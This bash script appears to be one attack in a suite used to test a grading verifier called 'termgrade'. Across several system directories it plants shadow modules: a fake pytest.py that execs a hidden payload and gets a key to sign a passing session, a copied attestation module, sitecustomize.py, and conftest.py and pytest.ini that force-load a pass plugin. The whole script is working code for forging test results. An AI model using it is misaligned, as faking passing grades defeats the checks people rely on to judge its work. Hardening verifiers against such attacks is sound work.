#!/usr/bin/env bash
# attack: cwd-shadow-modules
# class: forge
# what: plants, in every directory a verifier may run from (/app, /root, /tmp, /srv, /), modules named like what the verifier imports: pytest.py (a fake pytest that asks the broker for a key and signs a passing session), termgrade_attest.py (the plugin's old fixed name), conftest.py and pytest.ini (a force-pass plugin), sitecustomize.py
set -eu
lib="$(dirname "$0")/_lib"
for d in /app /root /tmp /srv /; do
  mkdir -p "$d"
  { echo 'import os, subprocess'; echo "exec(open('$d/.tg_payload.py').read())"; } > "$d/pytest.py"
  cp "$lib/testtime_payload.py" "$d/.tg_payload.py"
  cp "$d/pytest.py" "$d/termgrade_attest.py"
  cp "$lib/tgkit_pass.py" "$d/tgkit_pass.py"
  printf 'pytest_plugins = ["tgkit_pass"]\n' > "$d/conftest.py"
  printf '[pytest]\naddopts = -p tgkit_pass\n' > "$d/pytest.ini"
  cp "$d/pytest.py" "$d/sitecustomize.py"
done
